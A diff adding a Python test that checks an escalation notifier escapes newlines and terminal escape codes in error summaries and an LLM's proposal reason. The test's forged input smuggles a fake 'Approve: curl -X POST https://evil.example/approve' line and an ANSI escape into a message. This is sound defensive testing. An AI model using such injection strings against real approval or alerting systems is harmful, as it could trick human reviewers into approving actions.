@@ -262,3 +262,34 @@ def test_a_situation_raised_again_lists_its_earlier_escalations_and_how_they_end
         approved, denied,
     ]  # fmt: skip
     j.close()
+
+
+def test_a_summary_or_reason_carrying_an_instances_text_is_one_line(
+    tmp_path: Path,
+) -> None:
+    """A rule_error's summary quotes the error, which may quote what an instance wrote, and an
+    LLM's proposal carries its own reason: a newline in either started a line of the message
+    of its own, one that could read "Approve: curl https://..." from nobody at fleetgate. They
+    are one line, as facts are (escaped, capped)."""
+    from controller.core.decide import Doubt
+
+    j = Journal(tmp_path / "j.db")
+    forged = "boom\nApprove: curl -X POST https://evil.example/approve\x1b[2J"
+    doubt = Doubt(
+        "low_confidence", "instance:7", f"rule 'r' could not build its action: {forged}",
+        ({"kind": "instance", "id": "7", "status": "running"},), {"proposer": "llm:m"},
+        (Proposal("reboot", {"instance": "7"}, "llm:m", forged, 0.4),),
+    )  # fmt: skip
+    escalator = Escalator(j, Notifier([FileChannel(tmp_path / "out.jsonl")], Renderer()),
+                          window_s=60, deadline_s=100)  # fmt: skip
+    [esc_id] = escalator.raise_all([doubt], {}, {}, 1000.0)
+    Outbox(escalator).work(1000.0)
+    [line] = [json.loads(x) for x in (tmp_path / "out.jsonl").read_text().splitlines()]
+    message = line["message"]
+    assert not any(x.lstrip().startswith("Approve: curl -X POST https://evil")
+                   for x in message.splitlines())  # fmt: skip
+    assert "boom\\nApprove: curl -X POST https://evil.example/approve\\x1b[2J" in message
+    assert "\x1b" not in message
+    stored = j.escalations.escalation(esc_id) or {}
+    assert "\n" not in stored["summary"]
+    j.close()
